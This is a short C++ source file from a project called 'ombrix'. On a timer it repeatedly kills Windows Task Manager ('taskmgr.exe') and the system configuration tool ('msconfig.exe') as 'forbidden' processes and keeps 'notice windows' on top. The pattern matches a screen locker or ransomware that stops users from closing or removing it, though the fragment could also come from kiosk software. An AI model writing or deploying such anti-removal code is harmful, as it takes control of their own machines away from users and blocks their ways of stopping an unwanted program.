#include "enforce/task_manager_timer.h"

#include "platform/failures.h"

namespace ombrix::enforce {

void TaskManagerTimer::tick() noexcept {
    const Entered entered(*this);
    if (!entered.first()) return;
    platform::guarded([&] { KillForbiddenProcess("taskmgr.exe"); });
    platform::guarded([&] { KillForbiddenProcess("msconfig.exe"); });
    platform::guarded([&] { m_.host.keepNoticeWindowsOnTop(); });
}

}  // namespace ombrix::enforce
